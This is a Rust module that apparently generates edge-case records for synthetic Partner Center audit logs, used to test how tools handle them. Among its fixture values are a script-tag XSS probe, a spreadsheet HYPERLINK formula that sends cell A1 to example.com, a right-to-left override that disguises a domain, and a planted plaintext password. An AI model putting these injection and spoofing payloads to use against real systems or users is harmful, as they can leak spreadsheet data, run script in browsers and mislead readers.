//! A handful of records as partners' tools leave them: odd, yet nothing Partner Center would refuse.

use std::collections::HashMap;

use rand::{Rng, rngs::StdRng};

use super::{
    draft::Draft,
    generator::Generator,
    guid,
    operations::{OPERATIONS, Operation},
    time::Ticks,
};

/// What is odd about a record.
#[derive(Clone, Copy, Debug)]
pub(super) enum Oddity {
    /// `resourceNewValue` is a sentence.
    NotJson,
    /// `resourceNewValue` ends in the middle.
    CutJson,
    /// Markup and a script as the company's name.
    Script,
    /// A spreadsheet formula as the company's name, and a password that a tool left in its profile.
    Formula,
    /// Direction marks that turn the text around.
    RightToLeft,
    /// A company's name of several lines.
    LongName,
    /// An order with so many line items.
    LargeOrder(usize),
}

const CASES: &[Oddity] = &[
    Oddity::NotJson,
    Oddity::CutJson,
    Oddity::Script,
    Oddity::Formula,
    Oddity::RightToLeft,
    Oddity::LongName,
    Oddity::LargeOrder(60),
    Oddity::LargeOrder(200),
];

/// Which of the moments since `since` become odd; none in a tenant too small to spare them.
pub(super) fn places(rng: &mut StdRng, moments: &[Ticks], since: Ticks) -> HashMap<usize, Oddity> {
    let first = moments.partition_point(|at| *at < since);
    let room = moments.len() - first;
    if room < 10 * CASES.len() {
        return HashMap::new();
    }
    let stride = room / CASES.len();
    CASES
        .iter()
        .enumerate()
        .map(|(n, case)| (first + n * stride + rng.random_range(0..stride), *case))
        .collect()
}

fn operation(wire: &str) -> &'static Operation {
    OPERATIONS
        .iter()
        .find(|operation| operation.wire == wire)
        .expect("the list has every operation named here")
}

/// The odd record of a moment.
pub(super) fn record(generator: &mut Generator, case: Oddity, at: Ticks) -> String {
    let named = |name: &str| name.to_owned();
    let name = match case {
        Oddity::Script => named(r#"<script>alert("Contoso")</script><b>Fabrikam</b> & 'Co'"#),
        Oddity::Formula => named(r#"=HYPERLINK("http://example.com/?"&A1,"Click")"#),
        Oddity::RightToLeft => named("\u{202e}moc.osotnoc\u{202c} \u{200f}شركة النور\u{200f}"),
        Oddity::LongName => {
            "Vereinigte Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft "
                .repeat(5)
        }
        Oddity::LargeOrder(lines) => return large_order(generator, lines, at),
        Oddity::NotJson | Oddity::CutJson => {
            let customer = generator.customer();
            generator.customers[customer].name.clone()
        }
    };
    let new_value = match case {
        Oddity::NotJson => "Changed by script, see ticket #4711 <urgent>".to_owned(),
        Oddity::CutJson => {
            r#"{"Id":"d51a052e-043c-4a2a-aa37-2bb938cef6c1","LineItems":[{"LineItemNumber":0,"Offer"#
                .to_owned()
        }
        Oddity::Formula => {
            r#"{"CompanyName":"renamed","ServiceAccount":{"UserName":"sync","Password":"Summer-2026!"},"Attributes":{"ObjectType":"CustomerCompanyProfile"}}"#
                .to_owned()
        }
        _ => r#"{"CompanyName":"renamed","Attributes":{"ObjectType":"CustomerCompanyProfile"}}"#.to_owned(),
    };
    let customer_id = guid(&mut generator.rng);
    let draft = Draft {
        resource_id: Some(customer_id.clone()),
        new_value: Some(new_value),
        data: vec![("Note".into(), Some(name.clone()))],
        old_value: None,
    };
    generator.write(
        operation("update_company_info"),
        "succeeded",
        at,
        Some(&customer_id),
        Some(name.trim_end()),
        &draft,
    )
}

fn large_order(generator: &mut Generator, lines: usize, at: Ticks) -> String {
    let customer = generator.customer();
    let draft = generator.order_of(customer, lines, at, true);
    let (id, name) = (
        generator.customers[customer].id.clone(),
        generator.customers[customer].name.clone(),
    );
    generator.write(
        operation("create_order"),
        "succeeded",
        at,
        Some(&id),
        Some(&name),
        &draft,
    )
}
